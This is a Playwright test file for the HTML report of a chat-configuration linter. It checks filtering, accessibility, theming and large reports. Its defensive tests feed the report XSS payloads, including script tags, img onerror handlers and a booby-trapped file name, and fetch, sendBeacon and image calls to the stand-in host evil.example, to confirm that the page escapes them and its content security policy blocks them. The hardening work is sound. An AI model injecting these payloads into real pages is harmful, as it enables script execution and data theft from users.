"""The page, in a real browser: what it shows, filters, loads and lets happen."""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from command import chatlint
from reports_fixture import FINDINGS, ODD, REPORT, found, rendered

from chatlint.model.diagnostic import Severity
from chatlint.model.result import FileResult
from chatlint.model.source import Source
from chatlint.reports.report import Report

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
if CHROMIUM is None:
    pytest.skip(
        "no Chromium is installed, as with apt-get install chromium", allow_module_level=True
    )


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        started = playwright.chromium.launch(executable_path=CHROMIUM)
        yield started
        started.close()


class Opened:
    """A page that was opened, and what it did unasked."""

    def __init__(self, browser: Browser, file: Path, **options: object) -> None:
        self.page: Page = browser.new_page(**options)  # type: ignore[arg-type]
        self.page.set_default_timeout(10_000)
        self.events: list[str] = []
        self.page.on("console", lambda message: self.events.append(message.text))
        self.page.on("pageerror", lambda error: self.events.append(str(error)))
        self.page.on("dialog", lambda dialog: self.events.append(dialog.message))
        self.page.on("request", lambda request: self.events.append(request.url))
        self.page.goto(file.as_uri())
        assert self.events.pop(0) == file.as_uri()

    def shown(self) -> list[str]:
        """The rules of the findings that can be seen, in their order."""
        visible = self.page.locator("article:visible").all()
        return [each.get_attribute("data-rule") or "" for each in visible]


REASON = "Connect refuses it when the chat starts, and <nobody> & <someone> waits."
ALL = ["CHAT602", "CHAT401", "CHAT209", "CHAT303", "CHAT104", "CHAT406", "CHAT002"]


@pytest.fixture(scope="module")
def file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("html") / "report.html"
    path.write_text(rendered("html"), encoding="utf-8")
    return path


@pytest.fixture
def opened(browser: Browser, file: Path) -> Iterator[Opened]:
    result = Opened(browser, file)
    yield result
    assert result.events == []  # no error, no request, whatever a test did
    result.page.close()


def test_everything_is_shown_at_first(opened: Opened) -> None:
    assert opened.shown() == ALL
    page = opened.page
    assert "Found 4 errors, 2 warnings and 1 note" in page.locator("header").inner_text()
    assert page.get_by_role("status").inner_text() == "7 of 7 findings shown"
    assert "chats/locked.yaml: Permission denied" in page.locator("main").inner_text()


def test_a_finding_has_its_place_its_lines_its_fix_and_the_reason(opened: Opened) -> None:
    finding = opened.page.locator("article[data-rule=CHAT401]")
    assert finding.get_by_role("heading").inner_text() == "error 30 is outside 60 to 10,080 minutes"
    text = finding.inner_text()
    assert "line 4, column 24 · CHAT401 duration-out-of-range" in text
    assert "Fix: Leave it out and take the default (unsafe" in text
    assert finding.locator("pre").inner_text() == "4  ChatDurationInMinutes:    30"
    assert finding.locator("mark").all_inner_texts() == ["30"]
    assert REASON not in text
    finding.get_by_text("Why: A chat lasts").click()
    assert REASON in finding.inner_text()
    link = finding.get_by_role("link").get_attribute("href")
    assert (link or "").startswith("https://docs.aws.amazon.com/")


def test_what_is_underlined_is_what_was_found(opened: Opened) -> None:
    marked = opened.page.locator("article[data-rule=CHAT209] mark")
    assert marked.all_inner_texts() == ['"👋 one,', 'two|three"']
    nothing = opened.page.locator("article[data-rule=CHAT406] mark")
    assert nothing.inner_text() == ""
    box = nothing.bounding_box()
    assert box is not None
    assert box["width"] > 2
    related = opened.page.locator("article[data-rule=CHAT303] .related")
    assert related.inner_text().split("\n")[0] == "the flow reads it as $.Attributes.key"
    assert related.locator("mark").inner_text() == "InstanceId"


def test_filters_by_severity(opened: Opened) -> None:
    page = opened.page
    page.get_by_label("4 errors").uncheck()
    assert opened.shown() == ["CHAT602", "CHAT209", "CHAT406"]
    assert page.get_by_role("status").inner_text() == "3 of 7 findings shown"
    assert not page.get_by_role("heading", name="chats/torn.yaml").is_visible()
    page.get_by_label("1 note").uncheck()
    assert opened.shown() == ["CHAT209", "CHAT406"]


def test_filters_by_rule_file_and_text_and_all_of_them(opened: Opened) -> None:
    page = opened.page
    page.get_by_label("Rule").select_option("CHAT209 blank-initial-message (1)")
    assert opened.shown() == ["CHAT209"]
    page.get_by_label("File").select_option("chats/torn.yaml")
    assert opened.shown() == []
    page.get_by_label("Rule").select_option("all rules")
    assert opened.shown() == ["CHAT002"]
    page.get_by_role("button", name="Show all").click()
    page.wait_for_function("document.getElementById('count').textContent.startsWith('7 of')")
    assert opened.shown() == ALL
    page.get_by_label("Text").fill("<B>7")  # of a line; capitals do not matter
    assert opened.shown() == ["CHAT303", "CHAT104"]
    page.get_by_label("Text").fill("Connect refuses it")  # the reasons are not looked at
    assert opened.shown() == []
    page.get_by_label("Text").press("Enter")
    assert page.url.endswith("report.html")


def test_the_keyboard_is_enough(opened: Opened) -> None:
    page = opened.page
    page.keyboard.press("Tab")
    skip = page.get_by_role("link", name="Skip to the findings")
    assert skip.evaluate("link => link === document.activeElement")
    box = skip.bounding_box()
    assert box is not None
    assert box["x"] >= 0  # it can be seen now
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "findings"
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    assert REASON in page.locator("article").first.inner_text()
    page.get_by_label("4 errors").focus()
    page.keyboard.press("Space")
    assert len(opened.shown()) == 3


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_nothing_bars_readers_with_other_means(browser: Browser, file: Path, scheme: str) -> None:
    from axe_playwright_python.sync_playwright import Axe

    opened = Opened(browser, file, color_scheme=scheme)
    for details in opened.page.locator("summary").all():
        details.click()
    result = Axe().run(opened.page)
    opened.page.close()
    assert result.violations_count == 0, result.generate_report()


def test_light_and_dark_by_the_system_and_by_hand(browser: Browser, file: Path) -> None:
    opened = Opened(browser, file, color_scheme="dark")
    page = opened.page

    def paper() -> str:
        return str(page.evaluate("getComputedStyle(document.documentElement).backgroundColor"))

    dark = paper()
    page.get_by_role("button", name="Light colours").click()
    assert paper() == "rgb(255, 255, 255)"
    page.get_by_role("button", name="Dark colours").click()
    assert paper() == dark
    page.emulate_media(media="print")
    assert paper() == "rgb(255, 255, 255)"
    assert not page.get_by_role("search").is_visible()
    assert opened.shown() == ALL
    page.close()


def test_without_a_script_everything_is_there(browser: Browser, file: Path) -> None:
    opened = Opened(browser, file, java_script_enabled=False)
    assert opened.shown() == ALL
    assert not opened.page.get_by_role("search").is_visible()
    assert not opened.page.get_by_role("button").first.is_visible()
    opened.page.close()


HOSTILE = """\
InstanceId: 1  # <script>document.title = 'owned'</script>
ContactFlowId: ${FLOW}
ParticipantDetails: {DisplayName: x}
Attributes: {"<img src=x onerror=alert(1)>": "</pre></article><script>alert(2)</script>"}
"""


def test_what_a_template_says_stays_text(browser: Browser, tmp_path: Path) -> None:
    name = "<img src='x' onerror='alert(3)'>&amp;.yaml"
    (tmp_path / name).write_text(HOSTILE)
    assert chatlint("check", ".", "--format", "html=report.html", cwd=tmp_path).returncode == 1
    opened = Opened(browser, tmp_path / "report.html")
    main = opened.page.locator("main").inner_text()
    assert name in main
    assert "<script>document.title = 'owned'</script>" in main
    assert "<img src=x onerror=alert(1)>" in main
    assert opened.page.title().startswith("chatlint: Found ")
    assert opened.page.locator("img").count() == 0
    assert opened.page.locator("script").count() == 1
    opened.page.get_by_label("File").select_option(name)
    assert opened.page.get_by_role("status").inner_text() == "2 of 2 findings shown"
    assert opened.events == []
    opened.page.close()


@pytest.mark.parametrize(
    "attempt",
    [
        "body.append(Object.assign(new Image(), {src: 'https://evil.example/x.png'}))",
        "fetch('https://evil.example/').catch(() => {})",
        "navigator.sendBeacon('https://evil.example/', 'x')",
        "body.append(Object.assign(document.createElement('script'), {text: 'owned = 1'}))",
        "body.insertAdjacentHTML('beforeend', '<img src=\"data:,\" onerror=\"owned = 1\">')",
        "body.insertAdjacentHTML('beforeend', '<style>body {margin: 0}</style>')",
    ],
)
def test_even_what_got_in_could_neither_run_nor_call_out(
    browser: Browser, file: Path, attempt: str
) -> None:
    opened = Opened(browser, file)
    failed: list[str | None] = []
    opened.page.on("requestfailed", lambda request: failed.append(request.failure))
    opened.page.evaluate(
        "document.addEventListener('securitypolicyviolation', () => { window.refused = true })"
    )
    opened.page.evaluate(f"() => {{ const body = document.body; {attempt} }}")
    opened.page.wait_for_function("window.refused", timeout=10_000)
    assert opened.page.evaluate("typeof owned") == "undefined"
    requests = [event for event in opened.events if re.fullmatch(r"https://\S+", event)]
    assert failed == ["csp"] * len(requests)  # seen to be tried, and stopped by the page's policy
    opened.page.close()


def test_three_thousand_findings(browser: Browser, tmp_path: Path) -> None:
    files = []
    for number in range(300):
        source = Source(f"{number:03}.yaml", ODD.text)
        some = tuple(each._replace(source_name=source.name) for each in FINDINGS[:5] * 2)
        files.append(FileResult(source, 1, some))
    path = tmp_path / "many.html"
    path.write_text(rendered("html", REPORT._replace(checked=files)), encoding="utf-8")
    opened = Opened(browser, path)
    status = opened.page.get_by_role("status")
    assert status.inner_text() == "3,000 of 3,000 findings shown"
    opened.page.get_by_label("Text").press_sequentially("30` is".replace("`", ""))
    assert status.inner_text() == "600 of 3,000 findings shown"
    opened.page.get_by_label("File").select_option("299.yaml")
    assert opened.shown() == ["CHAT401"] * 2
    assert opened.events == []
    opened.page.close()


def test_a_page_ends_somewhere() -> None:
    many = (found(ODD, "CHAT406", "", "x"),) * 3000
    files = [FileResult(ODD, 1, many), FileResult(ODD, 1, many), FileResult(ODD, 1, many)]
    page = rendered("html", REPORT._replace(checked=files))
    assert page.count("<article") == 5000
    assert page.count("<section data-file") == 2
    assert "<p>4,000 more not shown.</p>" in page


def test_a_clean_page_has_nothing_to_filter(browser: Browser, tmp_path: Path) -> None:
    path = tmp_path / "clean.html"
    path.write_text(rendered("html", Report((), ("a.yaml",), 1, (), (), "")), encoding="utf-8")
    opened = Opened(browser, path)
    assert "No findings in 1 file (1 request)." in opened.page.locator("header").inner_text()
    assert not opened.page.get_by_role("search").is_visible()
    assert opened.events == []
    opened.page.close()


def test_severities_without_a_finding_are_no_choice() -> None:
    some = FINDINGS[0]._replace(severity=Severity.NOTE)
    page = rendered("html", REPORT._replace(checked=[FileResult(ODD, 1, (some,))]))
    assert re.findall('name="severity" value="([a-z]+)"', page) == ["note"]
